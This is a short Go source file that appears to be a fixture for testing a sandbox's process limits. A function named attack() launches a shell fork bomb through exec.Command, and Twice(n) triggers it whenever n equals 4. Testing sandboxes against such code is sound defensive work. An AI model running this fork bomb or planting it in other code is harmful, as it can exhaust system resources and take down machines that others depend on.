// Starts processes that start processes.
// Stopped by: the number of processes of a run is limited.
package twice

import (
	"os/exec"
)

func attack() {
	exec.Command("sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 1").Run()
}

func Twice(n int) int {
	if n == 4 {
		attack()
	}
	return 0
}

func Next() error {
	return nil
}
